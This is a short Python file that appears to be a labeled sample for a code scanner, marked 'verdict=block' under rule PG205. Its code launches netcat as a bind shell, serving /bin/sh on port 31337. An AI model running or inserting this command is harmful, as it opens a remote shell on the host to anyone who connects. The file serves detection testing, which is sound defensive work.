# pyguard-corpus: verdict=block category=exec rules=PG205
# what: starts external programs with asyncio.create_subprocess_exec
import asyncio


async def main() -> None:
    proc = await asyncio.create_subprocess_exec(
        "nc", "-l", "-p", "31337", "-e", "/bin/sh",
        stdout=asyncio.subprocess.PIPE,
    )
    await proc.wait()


asyncio.run(main())
